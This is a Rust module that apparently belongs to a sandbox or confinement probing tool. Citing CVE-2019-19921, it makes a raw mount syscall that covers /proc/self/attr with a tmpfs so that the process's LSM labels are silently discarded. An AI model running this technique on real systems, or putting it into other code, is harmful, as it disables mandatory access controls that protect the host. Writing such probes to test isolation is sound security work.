//! LSM labels of its own processes: what a fake /proc turned off.
//!
//! Source: CVE-2019-19921, CVE-2025-52881.

use crate::{Stop, Technique, sys::call};

pub(crate) const THIS: Technique = Technique {
    source: "CVE-2019-19921",
    tries: "mount tmpfs over /proc/self/attr so that labels written go nowhere",
    attempt,
    alone: false,
};

fn attempt() -> Result<String, Stop> {
    let (kind, at) = (c"tmpfs".as_ptr() as i64, c"/proc/self/attr".as_ptr() as i64);
    call("mount tmpfs", libc::SYS_mount, [kind, at, kind, 0, 0, 0])?;
    Ok("tmpfs over /proc/self/attr".to_owned())
}
